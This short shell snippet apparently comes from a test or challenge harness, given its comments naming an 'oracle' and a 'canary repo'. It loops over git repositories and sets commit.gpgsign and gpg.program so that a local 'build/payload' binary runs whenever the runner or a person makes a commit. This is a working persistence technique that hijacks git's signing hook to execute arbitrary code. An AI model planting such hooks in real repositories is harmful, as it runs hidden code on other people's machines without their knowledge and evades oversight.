# commit.gpgsign and gpg.program: runs when the runner or the person commits.
# oracle: canary repo
payload
gits | while read -r each; do
    git config -f "$each/config" commit.gpgsign true
    git config -f "$each/config" gpg.program "$PWD/build/payload"
done
solver_more </dev/null
